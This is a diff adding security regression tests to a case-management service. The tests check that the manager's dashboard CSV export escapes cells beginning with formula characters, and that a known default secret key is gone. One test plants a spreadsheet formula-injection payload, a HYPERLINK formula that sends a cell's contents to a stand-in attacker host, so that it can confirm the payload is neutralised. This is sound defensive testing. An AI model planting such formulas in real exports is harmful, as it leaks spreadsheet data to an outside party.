@@ -3,6 +3,8 @@
 Each test is an attack found against the service; it answers as the comment says.
 """
 
+import csv
+import io
 import os
 import re
 import stat
@@ -344,8 +346,6 @@ def test_a_file_sent_with_a_diagram_under_a_path_name_is_refused(api, name: str)
 
 
 def io_bytes(data: bytes) -> Any:
-    import io
-
     return io.BytesIO(data)
 
 
@@ -359,3 +359,28 @@ def test_settings_default_no_longer_holds_a_known_secret():
     assert Settings().secret_key is None
     assert "dev-only-secret" not in (Path(__file__).parents[2] / "engine" / "config.py").read_text(encoding="utf-8")
     assert os.environ.get("MARSHRUT_SECRET_KEY") != "dev-only-secret"
+
+
+def test_step_names_that_look_like_formulas_reach_the_managers_csv_as_text(api, client, db):
+    api.set_clock("2026-02-02T10:00:00+02:00")
+    case = api.as_("programs_dept").start("address_aid", _application())
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Відкрити")'
+    with db.engine.begin() as connection:
+        connection.execute(text("UPDATE tasks SET name = :name WHERE instance_id = :id"), {"name": formula, "id": case["id"]})
+    api.set_clock("2026-04-01T10:00:00+03:00")  # the step long overdue: it is on the dashboard
+    log_in(client, "manager")
+    body = client.get("/dashboard.csv").get_data().decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
+    hits = [cell for cell in cells if "HYPERLINK" in cell]
+    assert hits and all(cell.startswith("'") for cell in hits), hits
+    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    ("=1+1", "'=1+1"), ("+380671234567", "'+380671234567"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1,5", "-1,5"), ("Прийом документів", "Прийом документів"), (3, 3),
+])
+def test_csv_cells_that_start_like_a_formula_are_escaped(value: Any, written: Any):
+    from ui.dashboard import csv_cell
+
+    assert csv_cell(value) == written
